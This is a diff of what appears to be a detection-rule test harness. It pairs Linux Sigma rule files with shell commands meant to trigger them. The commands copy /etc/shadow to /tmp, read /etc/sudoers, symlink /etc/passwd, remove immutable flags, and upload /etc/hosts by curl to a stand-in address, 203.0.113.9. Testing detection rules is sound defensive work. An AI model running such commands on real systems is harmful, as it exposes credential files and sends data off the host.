@@ -24,7 +24,7 @@ LINUX = RULES / "rules" / "linux"
 THEIRS = {
     "process_creation/proc_creation_lnx_susp_process_reading_sudoers.yml": "cat /etc/sudoers >/dev/null",
     "process_creation/proc_creation_lnx_mkfifo_named_pipe_creation_susp_location.yml": "mkfifo /tmp/rehearsal",
-    "process_creation/proc_creation_lnx_susp_curl_fileupload.yml": "curl -F f=@/etc/hostname https://127.0.0.1/; true",
+    "process_creation/proc_creation_lnx_susp_curl_fileupload.yml": "curl -m1 -F f=@/etc/hosts https://203.0.113.9 || :",
     "process_creation/proc_creation_lnx_cp_passwd_or_shadow_tmp.yml": "cp /etc/shadow /tmp/rehearsal/; true",
     "process_creation/proc_creation_lnx_chattr_immutable_removal.yml": "chattr -i /tmp/rehearsal; true",
     "builtin/lnx_symlink_etc_passwd.yml": "ln -s /etc/passwd /tmp/rehearsal.link; rm /tmp/rehearsal*",
